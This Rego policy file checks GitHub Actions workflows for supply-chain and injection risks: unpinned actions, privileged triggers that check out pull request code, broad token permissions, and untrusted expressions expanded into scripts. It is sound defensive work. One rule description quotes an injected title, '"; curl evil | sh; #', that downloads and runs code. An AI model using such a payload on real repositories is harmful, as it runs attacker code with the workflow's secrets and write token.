# METADATA
# description: |
#   GitHub Actions supply chain and workflow injection. Workflows
#   (.github/workflows/*) and composite actions (action.yml) both count.
package prcheck.gha

import rego.v1

_doc := input.document

# Every step with its key path: workflow jobs, and composite action steps.
_steps contains {"step": step, "path": ["jobs", id, "steps", i], "job": id} if {
	input.file_kind == "github-workflow"
	some id
	job := _doc.jobs[id]
	is_array(job.steps)
	some i, step in job.steps
	is_object(step)
}

_steps contains {"step": step, "path": ["runs", "steps", i], "job": ""} if {
	input.file_kind == "github-action"
	is_array(_doc.runs.steps)
	some i, step in _doc.runs.steps
	is_object(step)
}

# Every `uses:` (step actions and reusable-workflow jobs) with its key path.
_uses contains {"ref": s.step.uses, "path": array.concat(s.path, ["uses"])} if {
	some s in _steps
	is_string(s.step.uses)
}

_uses contains {"ref": job.uses, "path": ["jobs", id, "uses"]} if {
	input.file_kind == "github-workflow"
	some id
	job := _doc.jobs[id]
	is_string(job.uses)
}

_allowed_owners := {lower(owner) |
	some i
	owner := data.settings.rules["gha/unpinned-uses"].allowed_owners[i]
	is_string(owner)
}

_sha(ref) if {
	count(ref) == 40 # cheap first: most refs are tags, and regorus compiles a regex per evaluation
	regex.match(`^[0-9a-fA-F]{40}$`, ref)
}

_pin_advice(ref) := sprintf("pin the full 40-character commit SHA of %s and keep '# %s' as a comment", [ref, ref]) if {
	_version_like(ref)
}

_pin_advice(ref) := "pin the full 40-character commit SHA of a release and keep its version as a '# vX.Y.Z' comment" if {
	not _version_like(ref)
}

# "v4", "4.2.1", "v1.12.0": a release tag rather than a branch such as "main".
_version_like(ref) if substring(trim_prefix(ref, "v"), 0, 1) in {"0", "1", "2", "3", "4", "5", "6", "7", "8", "9"}

# METADATA
# title: Action not pinned to a commit SHA
# description: |
#   A tag or branch of an action can be moved by whoever controls the action's
#   repository (or steals its credentials), and the next run executes the new
#   code with the workflow's token and secrets. Only a full commit SHA is
#   immutable. Docker actions need an image digest for the same reason. An
#   error by default (zizmor rates it High): this is the supply-chain failure
#   of tj-actions/changed-files; trusted owners can be allowed to use tags.
# custom:
#   id: gha/unpinned-uses
#   severity: error
#   remediation: >-
#     Pin to the full 40-character commit SHA and keep the version as a comment, e.g. `uses: actions/checkout@<sha> # v4.2.2`; Dependabot and Renovate update both. Owners trusted with tags can be listed in `rules: {gha/unpinned-uses: {allowed_owners: [...]}}`.
deny contains {
	"rule": "gha/unpinned-uses",
	"msg": sprintf("%s is pinned to the mutable ref '%s': %s", [u.ref, ref, _pin_advice(ref)]),
	"path": u.path,
} if {
	some u in _uses
	not startswith(u.ref, "./")
	not startswith(u.ref, "../")
	not startswith(u.ref, "docker://")
	contains(u.ref, "@")
	parts := split(u.ref, "@")
	ref := parts[count(parts) - 1]
	not _sha(ref)
	not lower(split(u.ref, "/")[0]) in _allowed_owners
}

deny contains {
	"rule": "gha/unpinned-uses",
	"msg": sprintf("%s has no @ref and runs the default branch: pin the full 40-character commit SHA", [u.ref]),
	"path": u.path,
} if {
	some u in _uses
	not startswith(u.ref, "./")
	not startswith(u.ref, "../")
	not startswith(u.ref, "docker://")
	not contains(u.ref, "@")
}

deny contains {
	"rule": "gha/unpinned-uses",
	"msg": sprintf("%s is not pinned by digest: use docker://image@sha256:<digest>", [u.ref]),
	"path": u.path,
} if {
	some u in _uses
	startswith(u.ref, "docker://")
	not contains(u.ref, "@sha256:")
}

# Event names a workflow triggers on: `on: push`, `on: [push, pull_request]` or a mapping.
# YAML 1.1 reads a bare `on` key as true, so the key may arrive as "true".
_on := object.get(_doc, "on", object.get(_doc, "true", null))

triggers contains _on if is_string(_on)

triggers contains event if {
	is_array(_on)
	some event in _on
}

triggers contains event if {
	is_object(_on)
	some event, _ in _on
}

_privileged_triggers := {"pull_request_target", "workflow_run"}

# Expressions that name the pull request's own code.
_head_ref_pattern := `github\.event\.pull_request\.head\.(sha|ref)|github\.head_ref|github\.event\.workflow_run\.head_(sha|branch|commit\.id)|github\.event\.pull_request\.merge_commit_sha|refs/pull/|github\.event\.number|github\.event\.pull_request\.number|github\.event\.pull_request\.head\.repo\.full_name`

# METADATA
# title: Privileged trigger checks out pull request code
# description: |
#   pull_request_target and workflow_run run with a write token and the
#   repository's secrets, in the context of the base branch. Checking out the
#   pull request's head and building or running it hands both to anyone who
#   opens a pull request ("pwn request").
# custom:
#   id: gha/dangerous-trigger
#   severity: error
#   remediation: Use the `pull_request` trigger to build untrusted code; if a privileged follow-up is needed, pass artifacts to a separate workflow_run job that never executes them.
deny contains {
	"rule": "gha/dangerous-trigger",
	"msg": sprintf("%s workflow checks out the pull request head in job '%s': untrusted code runs with secrets and a write token; build it under pull_request instead", [concat("/", sort([t | some t in triggers; t in _privileged_triggers])), s.job]),
	"path": array.concat(s.path, ["with", field]),
} if {
	input.file_kind == "github-workflow"
	some trigger in triggers
	trigger in _privileged_triggers
	some s in _steps
	is_string(s.step.uses)
	startswith(lower(s.step.uses), "actions/checkout@")
	some field in ["ref", "repository"]
	is_string(s.step["with"][field])
	regex.match(_head_ref_pattern, s.step["with"][field])
}

deny contains {
	"rule": "gha/dangerous-trigger",
	"msg": sprintf("%s workflow fetches the pull request head in a run step of job '%s': untrusted code runs with secrets and a write token; build it under pull_request instead", [concat("/", sort([t | some t in triggers; t in _privileged_triggers])), s.job]),
	"path": array.concat(s.path, ["run"]),
} if {
	input.file_kind == "github-workflow"
	some trigger in triggers
	trigger in _privileged_triggers
	some s in _steps
	is_string(s.step.run)
	_fetches_head(s.step.run)
}

_fetches_head(script) if regex.match(`gh\s+pr\s+checkout`, script)

_fetches_head(script) if {
	regex.match(`git\s+(fetch|checkout|switch|pull)`, script)
	regex.match(_head_ref_pattern, script)
}

# METADATA
# title: Workflow token permissions too broad
# description: |
#   Without a top-level `permissions:` block the GITHUB_TOKEN gets the
#   repository's default, often read/write on everything; `write-all` asks
#   for that explicitly. A compromised step can then push code or releases.
# custom:
#   id: gha/excessive-permissions
#   severity: warning
#   remediation: >-
#     Add `permissions: {contents: read}` at the top of the workflow and grant extra scopes per job only where needed.
deny contains {
	"rule": "gha/excessive-permissions",
	"msg": "workflow has no top-level permissions: add `permissions: {contents: read}` and grant more per job where needed",
	"path": ["jobs"],
} if {
	input.file_kind == "github-workflow"
	is_object(_doc.jobs)
	not _has(_doc, "permissions")
	some job in _doc.jobs
	not _has(job, "permissions")
}

deny contains {
	"rule": "gha/excessive-permissions",
	"msg": "workflow grants permissions: write-all: list only the scopes it needs, e.g. `contents: read`",
	"path": ["permissions"],
} if {
	input.file_kind == "github-workflow"
	_doc.permissions == "write-all"
}

deny contains {
	"rule": "gha/excessive-permissions",
	"msg": sprintf("job '%s' grants permissions: write-all: list only the scopes it needs", [id]),
	"path": ["jobs", id, "permissions"],
} if {
	input.file_kind == "github-workflow"
	some id
	job := _doc.jobs[id]
	job.permissions == "write-all"
}

# Contexts an outside contributor controls (titles, bodies, branch names, commit messages).
_injectable := `\$\{\{[^}]*?(github\.event\.(issue\.(title|body)|pull_request\.(title|body|head\.ref|head\.label|head\.repo\.default_branch)|comment\.body|review\.body|review_comment\.body|discussion\.(title|body)|pages[^}]*?\.page_name|commits[^}]*?\.(message|author\.(email|name))|head_commit\.(message|author\.(email|name))|workflow_run\.(head_branch|display_title|head_commit\.(message|author\.(email|name))))|github\.head_ref)`

# METADATA
# title: Untrusted input expanded in a script
# description: |
#   `${{ }}` is expanded into the script text before the shell runs it, so a
#   pull request title like `"; curl evil | sh; #` becomes code running with
#   the workflow's token and secrets.
# custom:
#   id: gha/template-injection
#   severity: error
#   remediation: >-
#     Pass the value through an environment variable (`env: {TITLE: "${{ github.event.issue.title }}"}`) and use `"$TITLE"` in the script.
deny contains {
	"rule": "gha/template-injection",
	"msg": sprintf("%s expands ${{ %s }} into the script: pass it through env: and use the variable in quotes", [_step_label(s), matches[0][1]]),
	"path": array.concat(s.path, script.path),
} if {
	some s in _steps
	some script in _scripts(s.step)
	contains(script.text, "${{")
	_mentions_untrusted(script.text)
	matches := regex.find_all_string_submatch_n(_injectable, script.text, -1)
	count(matches) > 0
}

# Cheap string tests before the large pattern: every injectable context contains one of these.
_mentions_untrusted(text) if contains(text, "github.event.")

_mentions_untrusted(text) if contains(text, "github.head_ref")

_scripts(step) := [{"path": ["run"], "text": step.run}] if is_string(step.run)

_scripts(step) := [{"path": ["with", "script"], "text": step["with"].script}] if {
	not is_string(step.run)
	is_string(step.uses)
	startswith(lower(step.uses), "actions/github-script@")
	is_string(step["with"].script)
}

_step_label(s) := sprintf("step '%s' of job '%s'", [s.step.name, s.job]) if {
	s.job != ""
	is_string(s.step.name)
}

_step_label(s) := sprintf("step %d of job '%s'", [s.path[3] + 1, s.job]) if {
	s.job != ""
	not is_string(s.step.name)
}

_step_label(s) := sprintf("step %d of the action", [s.path[2] + 1]) if s.job == ""

# The key is present, whatever its value (`permissions: {}` and an empty `permissions:` both count).
_has(obj, key) if {
	is_object(obj)
	_ = obj[key]
}
